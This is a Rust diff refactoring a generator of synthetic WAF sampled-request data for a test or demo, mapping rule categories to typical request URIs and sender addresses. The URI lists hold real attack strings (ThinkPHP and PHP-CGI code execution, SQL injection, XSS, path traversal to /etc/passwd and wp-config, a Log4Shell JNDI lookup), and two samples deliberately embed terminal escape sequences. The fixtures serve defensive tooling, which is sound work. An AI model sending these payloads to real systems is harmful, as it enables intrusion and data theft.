@@ -37,207 +37,201 @@ fn doc_ip(rng: &mut Xoshiro256PlusPlus) -> String {
     format!("{net}.{}", rng.random_range(1..255u8))
 }
 
+/// Who sends a category's requests.
+#[derive(Debug, Clone, Copy)]
+enum Senders {
+    /// Anyone on the internet: documentation addresses from anywhere.
+    Anyone,
+    /// The office's two fixed addresses (S1's CMS editors).
+    Office,
+    /// S3's handheld terminals, all in Japan.
+    Terminals,
+    /// One client hammering the login (S3's rate-based rule).
+    OneAbuser,
+}
+
+/// The (method, URI) pairs typical of a category, and who sends them.
+fn profile(category: Category) -> (Senders, &'static [(&'static str, &'static str)]) {
+    use Category::*;
+    match category {
+        Xmlrpc => (
+            Senders::Anyone,
+            &[
+                ("POST", "/xmlrpc.php"),
+                ("POST", "//xmlrpc.php"),
+                ("GET", "/xmlrpc.php?rsd"),
+            ],
+        ),
+        WpAdmin => (
+            Senders::Anyone,
+            &[
+                ("POST", "/wp-login.php"),
+                ("GET", "/wp-login.php"),
+                ("GET", "/wp-admin/"),
+                ("GET", "/wp-admin/install.php"),
+                ("GET", "/wp-login.php?action=register"),
+                ("POST", "/wp-admin/admin-ajax.php"),
+            ],
+        ),
+        IpReputation => (
+            Senders::Anyone,
+            &[
+                ("GET", "/"),
+                ("GET", "/?p=42"),
+                ("GET", "/feed/"),
+                ("GET", "/wp-content/uploads/2022/02/taltal.jpg"),
+                ("GET", "/?s=%E3%81%82"),
+            ],
+        ),
+        Php => (
+            Senders::Anyone,
+            &[
+                (
+                    "GET",
+                    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
+                ),
+                (
+                    "POST",
+                    "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
+                ),
+                ("GET", "/wp-content/plugins/hello.php?cmd=system('id')"),
+                (
+                    "GET",
+                    "/index.php?page=php://filter/convert.base64-encode/resource=wp-config",
+                ),
+            ],
+        ),
+        WordPress => (
+            Senders::Anyone,
+            &[
+                (
+                    "GET",
+                    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
+                ),
+                ("GET", "/?author=1"),
+                ("GET", "/wp-json/wp/v2/users"),
+                (
+                    "GET",
+                    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
+                ),
+                ("GET", "/wp-config.php.bak"),
+            ],
+        ),
+        Sqli => (
+            Senders::Anyone,
+            &[
+                ("GET", "/mt/mt-search.cgi?search=1%27%20OR%20%271%27%3D%271"),
+                (
+                    "GET",
+                    "/?id=1%20UNION%20SELECT%20author_name,author_password%20FROM%20mt_author--",
+                ),
+                (
+                    "GET",
+                    "/news/index.html?page=1;WAITFOR%20DELAY%20%270:0:5%27--",
+                ),
+                ("GET", "/mt/mt-search.cgi?IncludeBlogs=1%20AND%20SLEEP(5)"),
+            ],
+        ),
+        Xss => (
+            Senders::Anyone,
+            &[
+                ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+                ("POST", "/mt/mt-comments.cgi"),
+                ("GET", "/search/?q=<svg/onload=alert(document.domain)>"),
+                (
+                    "GET",
+                    "/contact/?name=%22%3E%3Cimg%20src=x%20onerror=prompt(1)%3E",
+                ),
+            ],
+        ),
+        CmsOffice => (
+            Senders::Office,
+            &[
+                ("GET", "/mt/mt.cgi?__mode=dashboard"),
+                ("POST", "/mt/mt.cgi"),
+                ("GET", "/mt/mt.cgi?__mode=list&_type=entry&blog_id=1"),
+                ("GET", "/mt-static/js/mt_core_compact.js"),
+            ],
+        ),
+        CmsOutside => (
+            Senders::Anyone,
+            &[
+                ("POST", "/mt/mt.cgi"),
+                ("GET", "/mt/mt-xmlrpc.cgi"),
+                ("GET", "/mt/mt-upgrade.cgi"),
+                ("GET", "/mt/mt.cgi?__mode=view&_type=author"),
+            ],
+        ),
+        Terminal => (
+            Senders::Terminals,
+            &[
+                ("POST", "/handy/api/v1/orders"),
+                ("POST", "/handy/api/v1/shipments"),
+                ("GET", "/handy/api/v1/master?since=0600"),
+            ],
+        ),
+        CommonCounted => (
+            Senders::Anyone,
+            &[
+                ("POST", "/member/login.cgi"),
+                ("GET", "/member/download.cgi?file=../../../../etc/passwd"),
+                ("GET", "/cgi-bin/test-cgi"),
+                ("GET", "/member/search.cgi?q=<script>"),
+            ],
+        ),
+        BadInputs => (
+            Senders::Anyone,
+            &[
+                (
+                    "GET",
+                    "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%3A1389%2Fa%7D",
+                ),
+                ("GET", "/member/%2e%2e/%2e%2e/etc/passwd"),
+                ("GET", "/actuator/env"),
+            ],
+        ),
+        RateLimit => (Senders::OneAbuser, &[("POST", "/member/login.cgi")]),
+    }
+}
+
+/// The deliberately hostile sample of a category (raw escape sequence in the URI), and its
+/// position among the samples, so it shows up whenever the rule has a few.
+fn hostile(category: Category) -> Option<(u64, &'static str, String)> {
+    match category {
+        Category::Xmlrpc => Some((1, "POST", format!("/xmlrpc.php?{HOSTILE_OSC}"))),
+        Category::Sqli => Some((
+            2,
+            "GET",
+            format!("/mt/mt-search.cgi?search={HOSTILE_CLEAR}%27%20OR%201=1--"),
+        )),
+        _ => None,
+    }
+}
+
 /// (client IP, country, method, URI) of the `i`-th sample of a rule of this category.
 fn request(
     category: Category,
     i: u64,
     rng: &mut Xoshiro256PlusPlus,
 ) -> (String, String, String, String) {
-    use Category::*;
-    let ip = doc_ip(rng);
-    let country = pick(rng, ATTACKER_COUNTRIES).to_string();
-    let post_or_get = if rng.random_bool(0.6) { "POST" } else { "GET" };
-    let (ip, country, method, uri): (String, String, &str, String) = match category {
-        Xmlrpc if i == 1 => (ip, country, "POST", format!("/xmlrpc.php?{HOSTILE_OSC}")),
-        Xmlrpc => {
-            let uri = pick(
-                rng,
-                &[
-                    "/xmlrpc.php",
-                    "/xmlrpc.php",
-                    "/xmlrpc.php?rsd",
-                    "//xmlrpc.php",
-                ],
-            );
-            (
-                ip,
-                country,
-                if uri.ends_with("rsd") { "GET" } else { "POST" },
-                uri.into(),
-            )
-        }
-        WpAdmin => {
-            let uri = pick(
-                rng,
-                &[
-                    "/wp-login.php",
-                    "/wp-admin/",
-                    "/wp-admin/install.php",
-                    "/wp-login.php?action=register",
-                    "/wp-admin/admin-ajax.php",
-                ],
-            );
-            (ip, country, post_or_get, uri.into())
-        }
-        IpReputation => {
-            let uri = pick(
-                rng,
-                &[
-                    "/",
-                    "/?p=42",
-                    "/feed/",
-                    "/wp-content/uploads/2022/02/taltal.jpg",
-                    "/?s=%E3%81%82",
-                ],
-            );
-            (ip, country, "GET", uri.into())
-        }
-        Php => {
-            let uri = pick(
-                rng,
-                &[
-                    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
-                    "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
-                    "/wp-content/plugins/hello.php?cmd=system('id')",
-                    "/index.php?page=php://filter/convert.base64-encode/resource=wp-config",
-                ],
-            );
-            (ip, country, post_or_get, uri.into())
-        }
-        WordPress => {
-            let uri = pick(
-                rng,
-                &[
-                    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
-                    "/?author=1",
-                    "/wp-json/wp/v2/users",
-                    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
-                    "/wp-config.php.bak",
-                ],
-            );
-            (ip, country, "GET", uri.into())
-        }
-        Sqli if i == 2 => (
-            ip,
-            country,
-            "GET",
-            format!("/mt/mt-search.cgi?search={HOSTILE_CLEAR}%27%20OR%201=1--"),
+    let (senders, requests) = profile(category);
+    let (method, uri) = requests[rng.random_range(0..requests.len())];
+    let (ip, country) = match senders {
+        Senders::Anyone => (doc_ip(rng), pick(rng, ATTACKER_COUNTRIES).to_string()),
+        Senders::Office => (
+            pick(rng, &["203.0.113.10", "203.0.113.11"]).to_string(),
+            "JP".to_string(),
         ),
-        Sqli => {
-            let uri = pick(
-                rng,
-                &[
-                    "/mt/mt-search.cgi?search=1%27%20OR%20%271%27%3D%271",
-                    "/?id=1%20UNION%20SELECT%20author_name,author_password%20FROM%20mt_author--",
-                    "/news/index.html?page=1;WAITFOR%20DELAY%20%270:0:5%27--",
-                    "/mt/mt-search.cgi?IncludeBlogs=1%20AND%20SLEEP(5)",
-                ],
-            );
-            (ip, country, "GET", uri.into())
-        }
-        Xss => {
-            let uri = pick(
-                rng,
-                &[
-                    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
-                    "/mt/mt-comments.cgi",
-                    "/search/?q=<svg/onload=alert(document.domain)>",
-                    "/contact/?name=%22%3E%3Cimg%20src=x%20onerror=prompt(1)%3E",
-                ],
-            );
-            (
-                ip,
-                country,
-                if uri.contains("comments") {
-                    "POST"
-                } else {
-                    "GET"
-                },
-                uri.into(),
-            )
-        }
-        CmsOffice => {
-            let uri = pick(
-                rng,
-                &[
-                    "/mt/mt.cgi?__mode=dashboard",
-                    "/mt/mt.cgi",
-                    "/mt/mt.cgi?__mode=list&_type=entry&blog_id=1",
-                    "/mt-static/js/mt_core_compact.js",
-                ],
-            );
-            let office = pick(rng, &["203.0.113.10", "203.0.113.11"]);
-            (
-                office.into(),
-                "JP".into(),
-                if uri == "/mt/mt.cgi" { "POST" } else { "GET" },
-                uri.into(),
-            )
-        }
-        CmsOutside => {
-            let uri = pick(
-                rng,
-                &[
-                    "/mt/mt.cgi",
-                    "/mt/mt-xmlrpc.cgi",
-                    "/mt/mt-upgrade.cgi",
-                    "/mt/mt.cgi?__mode=view&_type=author",
-                ],
-            );
-            (ip, country, post_or_get, uri.into())
-        }
-        Terminal => {
-            let uri = pick(
-                rng,
-                &[
-                    "/handy/api/v1/orders",
-                    "/handy/api/v1/shipments",
-                    "/handy/api/v1/master?since=0600",
-                ],
-            );
-            let terminal = format!("198.51.100.{}", rng.random_range(1..255u8));
-            (
-                terminal,
-                "JP".into(),
-                if uri.contains("master") {
-                    "GET"
-                } else {
-                    "POST"
-                },
-                uri.into(),
-            )
-        }
-        CommonCounted => {
-            let uri = pick(
-                rng,
-                &[
-                    "/member/login.cgi",
-                    "/member/download.cgi?file=../../../../etc/passwd",
-                    "/cgi-bin/test-cgi",
-                    "/member/search.cgi?q=<script>",
-                ],
-            );
-            (ip, country, post_or_get, uri.into())
-        }
-        BadInputs => {
-            let uri = pick(
-                rng,
-                &[
-                    "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%3A1389%2Fa%7D",
-                    "/member/%2e%2e/%2e%2e/etc/passwd",
-                    "/actuator/env",
-                ],
-            );
-            (ip, country, "GET", uri.into())
-        }
-        RateLimit => (
-            "203.0.113.45".into(),
-            "VN".into(),
-            "POST",
-            "/member/login.cgi".into(),
+        Senders::Terminals => (
+            format!("198.51.100.{}", rng.random_range(1..255u8)),
+            "JP".to_string(),
         ),
+        Senders::OneAbuser => ("203.0.113.45".to_string(), "VN".to_string()),
     };
-    (ip, country, method.to_string(), uri)
+    match hostile(category) {
+        Some((at, method, uri)) if at == i => (ip, country, method.to_string(), uri),
+        _ => (ip, country, method.to_string(), uri.to_string()),
+    }
 }
 
 /// What WAF reports as a sampled request's action, drawn in the proportions the counts use.
